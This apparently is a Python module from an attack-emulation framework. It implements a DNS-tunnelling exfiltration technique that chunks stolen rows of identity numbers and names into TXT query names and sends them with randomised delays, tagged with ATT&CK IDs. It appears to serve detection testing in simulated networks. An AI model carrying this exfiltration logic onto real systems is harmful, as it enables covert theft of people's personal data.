# Techniques over names: data brought out inside the names that a machine asks for, slowly, as
# its ordinary questions go.
from __future__ import annotations

import json

from policies import AttackStep, Fidelity, Title

from .dns import DNS, TXT, query, tunnelled
from .names import TUNNEL
from .technique import Attacker, Seen, Technique, number

__all__ = ["NAME_TECHNIQUES"]

_EVERYWHERE: frozenset[Fidelity] = frozenset({"memory", "loopback", "netns"})
# What fits in a name beside its number and domain.
_PIECE = 110


async def _tunnel(attacker: Attacker, step: AttackStep, target: str) -> None:
    """What was pulled, a piece in each name, while more of it may still come."""
    end = attacker.clock.now() + number(step, "seconds", 1800)
    sent = number_sent = 0
    waiting = b""
    link = await attacker.wire.open(attacker.address, target, DNS)
    while attacker.clock.now() < end:
        pages = attacker.loot.get("rows", [])
        while sent < len(pages) and len(waiting) < _PIECE:
            waiting += _short(pages[sent])
            sent += 1
        if waiting:
            name = tunnelled(number_sent, waiting[:_PIECE], TUNNEL)
            waiting = waiting[_PIECE:]
            await link.ask(query(number_sent, name, TXT))
            number_sent += 1
        await attacker.clock.sleep(number(step, "pause_s", 3) * attacker.random.uniform(0.5, 1.5))
    await link.close()


def _short(page: bytes) -> bytes:
    """Identity numbers and names of a page, without what can be done without."""
    rows = json.loads(page)["rows"]
    return "".join(f"{each['id_number']} {each['name']};" for each in rows).encode()


def _rows_out(_step: AttackStep, seen: Seen) -> bool:
    return seen.leaked > 0


NAME_TECHNIQUES = {
    "dns-tunnel": Technique(
        {
            "T1071.004": Title(zh="应用层协议：DNS", en="Application Layer Protocol: DNS"),
            "T1132.001": Title(zh="数据编码：标准编码", en="Data Encoding: Standard Encoding"),
            "T1048.003": Title(zh="经其他未加密协议外传", en="Exfiltration Over Unencrypted Non-C2 Protocol"),
        },
        _EVERYWHERE, _tunnel, _rows_out,
    ),
}  # fmt: skip
